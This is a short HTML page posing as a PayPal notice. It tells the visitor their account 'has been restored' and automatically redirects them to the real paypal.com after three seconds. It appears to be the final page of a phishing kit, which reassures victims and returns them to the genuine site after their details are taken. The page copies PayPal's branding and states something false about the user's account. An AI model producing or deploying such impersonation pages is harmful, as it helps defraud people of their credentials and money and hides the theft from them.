<!DOCTYPE html>
<html lang="en">
<head>
<meta charset="utf-8">
<meta http-equiv="refresh" content="3; url=https://www.paypal.com/">
<title>PayPal - Account Restored</title>
</head>
<body style="font-family:Arial,sans-serif;text-align:center;padding-top:90px;color:#1a1a2e">
<p style="font-weight:bold;font-style:italic;font-size:26px;color:#1d3f8f">PayPal</p>
<h1 style="font-size:20px">Thank you. Your account has been restored.</h1>
<p>You will be redirected to your account in a few seconds…</p>
</body>
</html>
